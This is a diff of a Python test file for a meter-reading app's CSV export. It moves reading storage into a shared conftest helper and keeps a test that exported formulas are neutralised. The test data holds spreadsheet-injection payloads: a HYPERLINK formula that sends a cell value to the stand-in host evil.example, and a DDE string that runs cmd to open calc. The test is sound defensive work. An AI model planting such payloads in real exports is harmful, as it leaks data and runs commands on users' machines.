@@ -5,16 +5,13 @@ import io
 from datetime import datetime
 
 import pytest
-from sqlalchemy import select
 
 from ivr.cli import main
-from ivr.flows.model import SaveMeter, ZoneReading
 from ivr.runtime import runtime
 from ivr.store import accounts_csv
 from ivr.store.database import transaction
-from ivr.store.models import Meter
-from ivr.store.readings import save_meter
 from ivr.store.readings_csv import HEADER
+from tests.conftest import store_readings
 
 SERIALS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)", "+1+cmd|' /C calc'!A0",
            "-2-3"]  # fmt: skip
@@ -35,10 +32,8 @@ def export(app, runner, monkeypatch):
 
 
 def save(app, serial: str, value: int, previous: int, at: datetime, flags=()) -> None:
-    with app.app_context(), transaction() as s:
-        mid = s.scalars(select(Meter.id).where(Meter.serial == serial)).one()
-        zr = ZoneReading(1, value, tuple(flags), None, at.strftime("%Y-%m"))  # previous: the meter's
-        save_meter(s, SaveMeter(mid, (zr,)), None, now=at)
+    with app.app_context(), transaction() as s:  # previous: the meter's
+        store_readings(s, serial, [value], at, insist="NEGATIVE" in flags)
 
 
 def test_formulas_from_imported_serials_are_neutralised_and_negative_use_stays_a_number(app, export):
